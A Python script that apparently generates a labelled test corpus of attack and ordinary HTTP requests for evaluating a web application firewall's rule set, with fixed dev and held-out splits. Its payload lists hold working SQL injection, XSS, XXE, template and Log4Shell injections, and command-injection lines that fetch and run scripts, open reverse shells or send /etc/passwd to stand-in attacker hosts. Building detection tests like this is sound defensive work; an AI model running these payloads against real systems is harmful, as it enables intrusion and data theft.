"""Generate crs_corpus.json: labelled attack and ordinary requests, with bodies, for the CRS tier.

Attack payloads come from two places:
  - classes written here (SQL injection, XSS, path traversal / file inclusion, command injection,
    XXE, server-side template injection, NoSQL injection, LDAP injection, CRLF / header injection,
    Java / Log4Shell and PHP object injection), each in the forms those attacks take;
  - the injection wordlists of Debian's `wfuzz` package (SQL.txt, XSS.txt, Traversal.txt, XML.txt;
    GPL-2), lines of 8 characters or more (shorter lines are fuzzing probes such as `'` or `--`,
    not attacks), when a folder holding them is given with --wordlists.
Each payload is placed in a request the way real traffic carries it: a query parameter, a form
body, a JSON body (nested), an XML body, a multipart field, a cookie, a header or a path segment.

The split into `dev` and `heldout` is by a hash of the payload, fixed before anything was tuned:
every placement of one payload is in the same split. Ordinary traffic (GET pages and searches,
form and JSON posts, XML, multipart uploads) is split the same way. Run:
    python tests/data/mitigation/make_crs_corpus.py [--wordlists /usr/share/wfuzz/wordlist/Injections]
The committed crs_corpus.json was made with the lists of wfuzz 3.1.0-2 (`apt-get download wfuzz`,
`dpkg-deb -x wfuzz_*.deb w`, `--wordlists w/usr/share/wfuzz/wordlist/Injections`).
"""

from __future__ import annotations

import argparse
import hashlib
import json
import random
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

HERE = Path(__file__).resolve().parent
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
HOST = "shop.example"  # what a browser sends; an IP address here scores on its own (CRS 920350)

ATTACKS: dict[str, list[str]] = {
    "sql_injection": [
        "1' OR '1'='1",
        "' OR 1=1-- -",
        "admin'-- ",
        "1 UNION SELECT username, password FROM users",
        "1' UNION ALL SELECT NULL,NULL,version()-- -",
        "1; DROP TABLE accounts",
        "1' AND SLEEP(5)#",
        "1' AND BENCHMARK(5000000,MD5(1))-- -",
        "1'; WAITFOR DELAY '0:0:5'--",
        "' UNION SELECT table_name FROM information_schema.tables--",
        "1) OR (1=1",
        "1'/**/UNION/**/SELECT/**/1,2,3--",
        "1' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
        "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
        "x' AND updatexml(1,concat(0x3a,database()),1)-- ",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "' OR username LIKE '%admin%'--",
        "1' ORDER BY 10-- -",
        "-1 UNION SELECT 1,group_concat(schema_name) FROM information_schema.schemata",
        "'||(SELECT CHAR(113)||CHAR(106))||'",
        "1' AND (SELECT COUNT(*) FROM sqlite_master)>0--",
        "admin' AND '1'='1' /*",
        "1 OR 2>1",
        "');INSERT INTO users(login) VALUES('eve')--",
        "1' HAVING 1=1--",
        "' or ''='",
        "1 AND 1=CONVERT(int,(SELECT @@version))",
        "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- x",
        "SELECT * FROM users WHERE id=1 OR 1=1",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=alert`1`>",
        "javascript:alert(document.cookie)",
        '<iframe src="javascript:alert(1)"></iframe>',
        "\"><script>fetch('//evil.example/'+document.cookie)</script>",
        "<body onload=alert('x')>",
        '<a href="javascript:void(0)" onclick="alert(1)">click</a>',
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "<input autofocus onfocus=alert(1)>",
        '<video><source onerror="alert(1)">',
        "<ScRiPt>prompt(1)</sCrIpT>",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        '<div style="background:url(javascript:alert(1))">',
        "<marquee onstart=confirm(1)>",
        "\";document.write('<img src=//x.example/'+document.cookie+'>');//",
        "<embed src=javascript:alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<base href="javascript:/a/-alert(1)///////">',
        "<form action=javascript:alert(1)><input type=submit>",
        '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
        "{{constructor.constructor('alert(1)')()}}",
    ],
    "path_traversal": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "....//....//....//etc/hosts",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd%00.png",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "..%252f..%252f..%252fetc%252fpasswd",
        "/proc/self/environ",
        "../../../../../boot.ini",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "/var/www/../../etc/group",
        "zip://uploads/avatar.jpg#shell.php",
        "expect://id",
        "phar:///tmp/upload.phar/test.txt",
        "http://evil.example/shell.txt?",
        "../../../.ssh/id_rsa",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "/.git/config",
        "../../../../../../var/log/apache2/access.log",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(curl http://evil.example/x.sh | sh)",
        "; wget http://198.51.100.1/bot -O /tmp/b; chmod +x /tmp/b",
        "|| ping -c 10 127.0.0.1",
        "127.0.0.1; nc -e /bin/sh 198.51.100.2 4444",
        "; bash -i >& /dev/tcp/198.51.100.3/443 0>&1",
        "a;/bin/ls -la /",
        "& dir c:\\",
        "| powershell -enc SQBFAFgA",
        "; sleep 10",
        "%0acat%20/etc/passwd",
        "$(printf 'id')",
        "x${IFS}&&${IFS}id",
        ";echo${IFS}pwned>/tmp/p",
        "| type C:\\boot.ini",
        "; python3 -c 'import os;os.system(\"id\")'",
        "`nslookup evil.example`",
        "; perl -e 'print `id`'",
        "|cmd.exe /c whoami",
        "; rm -rf /tmp/x",
        "; curl -d @/etc/passwd http://evil.example",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo/>',
        '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/x.dtd"><data>1</data>',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/hosts">]><a>&b;</a>',
        '<!DOCTYPE x PUBLIC "-//X//EN" "http://evil.example/x.dtd"><x/>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE c [<!ENTITY e SYSTEM "expect://id">]><c>&e;</c>',
        '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY s SYSTEM "file:///c:/windows/win.ini">]><r>&s;</r>',
    ],
    "template_injection": [
        "{{7*7}}",
        "${7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= system('id') %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "#{7*7}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% import os %}{{ os.system('id') }}",
        "${{<%[%'\"}}%\\",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))",
    ],
    "nosql_injection": [
        '{"$gt": ""}',
        '{"$ne": null}',
        "[$ne]=1",
        '{"$where": "sleep(5000)"}',
        "'; return true; var x='",
        '{"$regex": ".*"}',
        "true, $where: '1 == 1'",
        '{"username": {"$in": ["admin"]}}',
        "this.password.match(/.*/)//+%00",
        "'||'1'=='1",
        '{"$expr": {"$function": {"body": "sleep(5)"}}}',
    ],
    "ldap_injection": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*)",
        "x*)(|(password=*))",
        "*))%00",
        "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
        "*()|&'",
        "admin*)((|userPassword=*)",
    ],
    "header_injection": [
        "value%0d%0aSet-Cookie:%20session=evil",
        "x\r\nLocation: http://evil.example",
        "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
        "en%0d%0aX-Injected:%20yes",
        "/%0d%0aSet-Cookie:crlf=injection",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y",
    ],
    "java_php_injection": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:r}mi://evil.example/x}",
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
        "<?php system($_GET['c']); ?>",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
        'java.lang.Runtime.getRuntime().exec("id")',
        "<?= `id` ?>",
        'a:1:{i:0;O:10:"Monolog":0:{}}',
        "${jndi:dns://evil.example/q}",
    ],
}

WFUZZ_CATEGORIES = {"SQL.txt": "sql_injection", "XSS.txt": "xss", "Traversal.txt": "path_traversal", "XML.txt": "xxe"}
PLACEMENTS = ("query", "form", "json", "xml", "multipart", "cookie", "header", "path")
PER_PAYLOAD = 3


def split_of(text: str) -> str:
    return "heldout" if hashlib.sha256(text.encode()).digest()[0] % 2 else "dev"


def request(placement: str, value: str, field: str = "q") -> dict[str, Any]:
    """One request carrying `value` in `placement` (the body as text, its type in content_type)."""
    headers = {"Host": HOST, "User-Agent": UA, "Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
    base: dict[str, Any] = {"method": "GET", "path": "/", "headers": headers, "body": None}
    if placement == "query":
        base["path"] = "/search?" + urlencode({field: value, "page": "1"})
    elif placement == "path":
        base["path"] = "/files/" + quote(value, safe="")
    elif placement == "cookie":
        base["headers"]["Cookie"] = f"theme=dark; {field}={quote(value, safe='')}"
    elif placement == "header":
        raw = value if value.isascii() and value.isprintable() else quote(value, safe="")
        base["headers"]["Referer"] = f"https://shop.example/item?{field}={raw}"
    else:
        base["method"], base["path"] = "POST", "/api/submit"
        base["content_type"], base["body"] = body_of(placement, value, field)
    return base


def body_of(placement: str, value: str, field: str) -> tuple[str, str]:
    if placement == "form":
        return "application/x-www-form-urlencoded", urlencode({"name": "Ana", field: value, "submit": "Send"})
    if placement == "json":
        return "application/json", json.dumps({"customer": {"name": "Ana", field: value}, "items": [1, 2]})
    if placement == "xml":
        if value.lstrip().startswith("<"):
            return "application/xml", value
        escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        return "application/xml", f"<?xml version='1.0'?><order><{field}>{escaped}</{field}></order>"
    boundary = "----rayfleetBoundary7MA4YWxkTrZu0gW"
    text = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photos\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n--{boundary}--\r\n'
    )
    return f"multipart/form-data; boundary={boundary}", text


def attack_requests(payloads: dict[str, list[str]]) -> list[dict[str, Any]]:
    out = []
    for category, values in payloads.items():
        for index, value in enumerate(values):
            places = PLACEMENTS if category != "xxe" else ("xml", "xml", "xml")
            for k in range(PER_PAYLOAD):
                placement = places[(index + k * 3) % len(places)]
                if category == "header_injection" and placement in ("header",):
                    placement = "query"
                out.append(
                    {
                        "label": "attack",
                        "category": category,
                        "placement": placement,
                        "split": split_of(value),
                        **request(placement, value),
                    }
                )
    return out


def wordlist_payloads(folder: Path | None) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    if folder is None:
        return out
    for name, category in WFUZZ_CATEGORIES.items():
        lines = (folder / name).read_text(encoding="utf-8", errors="replace").splitlines()
        out["wfuzz_" + category] = sorted({line.strip() for line in lines if len(line.strip()) >= 8})
    return out


WORDS = [
    "blue",
    "running",
    "shoes",
    "laptop",
    "stand",
    "coffee",
    "grinder",
    "garden",
    "hose",
    "winter",
    "jacket",
    "kids",
    "books",
    "usb-c",
    "cable",
    "organic",
    "tea",
    "desk",
    "lamp",
    "yoga",
    "mat",
    "camera",
    "bag",
]
NAMES = ["Ana Souza", "Tom O'Brien", "Zoë Müller", "Li Wei", "Jean-Luc Picard", "Mary-Kate D'Angelo", "Ødegaard"]
SENTENCES = [
    "Great product, arrived on time. Would buy again!",
    "Please leave the parcel at the back door (ring twice).",
    "Can I select the size from the list after ordering?",
    "Works fine with Linux & macOS; drivers were not needed.",
    "5 stars - the 2nd one I've bought this year :)",
    "Is there a discount for orders over 100 EUR?",
    "My order #4521 hasn't shipped yet, where is it?",
    "Colour: dark-blue / size: 42 / width: wide",
    "I'd like to update my delivery address to 12 Rue de l'Église.",
    "Thanks! See https://example.org/faq for details.",
    "Union Street 5, 2nd floor, apartment 3",
    "Drop table by the window; the chairs go in the hall.",
    "Hi, the zipper broke after two weeks. Can you send a replacement?",
    "Order for the office - invoice to ACME Ltd.",
    "Deliver between 9:00 and 17:00 please.",
    "Gift wrap it, it's for my mum's 60th birthday!",
    "The manual says 'press and hold for 3s' but nothing happens.",
    "Size chart: S=36-38, M=40-42, L=44-46",
    "Where can I find the return form?",
    'Does this fit a 13" MacBook Air (M2)?',
    "50% off? Is that still valid today?",
    "Delivered to neighbour at no. 14",
    "Please call +44 20 7946 0958 when you arrive.",
    "Love it <3 will recommend to friends",
    "Café au lait colour looks different from the photo.",
    "Can I pay with PayPal or only by card?",
    "Ref: INV-2024-00871, paid on 03/07/2024",
    "Is the battery replaceable, or is it glued in?",
    "We need 12 units for a school project - bulk price?",
    "The item was fine but the box was damaged.",
    "Hello, I ordered the wrong colour; can I exchange it for grey?",
    "Tracking says delivered but I got nothing.",
    "C++ and Python books are both in the cart, only one arrived.",
    "Q: is it dishwasher-safe? A: the seller says yes.",
    "Excellent!!! Fast shipping & great packaging.",
    "Meeting notes: update the menu, then select a new supplier from the shortlist.",
    "first name / last name / phone number",
    "Please don't ring the bell, the baby is sleeping.",
]


def benign_requests(count: int, seed: int = 23) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    out = []
    for i in range(count):
        kind = ("search", "page", "form", "json", "xml", "multipart", "login", "api_get")[i % 8]
        text = rng.choice(SENTENCES)
        if kind == "search":
            item = request("query", " ".join(rng.sample(WORDS, rng.randint(1, 3))))
        elif kind == "page":
            item = request("query", str(rng.randint(1, 40)), "page")
            item["path"] = rng.choice(["/", "/products/", "/blog/2024/06/", "/static/app.js", "/about"]) + (
                f"?sort={rng.choice(['price', 'name', '-date'])}&page={rng.randint(1, 9)}"
            )
        elif kind == "form":
            item = request("form", text, "comment")
            item["body"] = urlencode(
                {
                    "name": rng.choice(NAMES),
                    "email": f"user{i}@example.com",
                    "comment": text,
                    "rating": str(rng.randint(1, 5)),
                }
            )
        elif kind == "json":
            order = {
                "customer": {"name": rng.choice(NAMES), "email": f"c{i}@example.net"},
                "items": [{"sku": f"SKU-{rng.randint(100, 999)}", "qty": rng.randint(1, 4)}],
                "note": text,
                "gift": rng.random() < 0.3,
                "coupon": None,
            }
            item = request("json", "", "x")
            item["body"] = json.dumps(order)
        elif kind == "xml":
            item = request("xml", text, "note")
        elif kind == "multipart":
            item = request("multipart", text, "description")
        elif kind == "login":
            item = request("form", "", "x")
            item["path"] = "/login"
            item["body"] = urlencode(
                {"username": f"user{i}", "password": f"S3cure!pass-{rng.randint(1000, 9999)}", "remember": "on"}
            )
        else:
            item = request("query", "", "x")
            item["path"] = f"/api/v1/orders/{rng.randint(1, 99999)}?fields=id,status,total&expand=items"
            item["headers"]["Authorization"] = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"
            item["headers"]["Accept"] = "application/json"
        # split by content: the same request never sits in both splits
        content = json.dumps([item["path"], item["body"], sorted(item["headers"].items())])
        out.append({"label": "benign", "category": kind, "placement": kind, "split": split_of(content), **item})
    return out


def build(wordlists: Path | None) -> list[dict[str, Any]]:
    return attack_requests({**ATTACKS, **wordlist_payloads(wordlists)}) + benign_requests(480)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--wordlists", type=Path, default=None, help="wfuzz's Injections folder")
    args = parser.parse_args()
    corpus = build(args.wordlists)
    for index, item in enumerate(corpus):
        item["id"] = index
    (HERE / "crs_corpus.json").write_text(json.dumps(corpus, indent=0, ensure_ascii=False) + "\n", encoding="utf-8")
    print(f"{len(corpus)} requests")


if __name__ == "__main__":
    main()
